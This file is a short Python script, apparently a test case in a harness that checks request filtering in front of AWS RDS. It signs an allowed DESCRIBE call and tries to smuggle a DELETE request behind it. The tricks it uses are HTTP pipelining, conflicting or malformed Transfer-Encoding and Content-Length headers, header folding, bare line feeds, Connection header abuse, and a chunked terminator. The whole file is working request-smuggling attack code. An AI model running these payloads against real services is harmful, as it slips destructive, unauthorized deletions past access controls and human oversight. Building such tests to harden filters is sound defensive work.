"""Pipeline the deletion behind an allowed call, or hide it in what a server takes for the body's end."""

# aims: aws
# control: none (what is pipelined is a request of its own there)
# seconds: 40
from attack import tried
from cloud import DELETE, DESCRIBE, FORM, host, send, signed


def whole(body: str, extra: str = "", length: str = "") -> bytes:
    made = signed("POST", "/", "", {"Content-Type": FORM}, body.encode(), "rds")
    head = "POST / HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in made.items())
    return f"{head}{extra}{length or f'Content-Length: {len(body)}' + chr(13) + chr(10)}\r\n{body}".encode()


bare = f"POST / HTTP/1.1\r\nHost: {host()}\r\nContent-Type: {FORM}\r\nContent-Length: {len(DELETE)}\r\n\r\n{DELETE}".encode()
tried()
send(whole(DESCRIBE) + bare)
send(whole(DESCRIBE) + whole(DELETE))
send(whole(DESCRIBE), bare)
for fields in ("Transfer-Encoding: chunked\r\n", "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding : chunked\r\n", "Content-Length: 0\r\n",
               "X: y\r\n Content-Length: 0\r\n", "X: y\nContent-Length: 0\r\n", "Connection: Content-Length\r\n", "Connection: x-amz-date, host\r\n"):  # fmt: skip
    send(whole(DESCRIBE, fields) + bare)
    send(whole(f"0\r\n\r\n{DELETE}", fields) + bare)
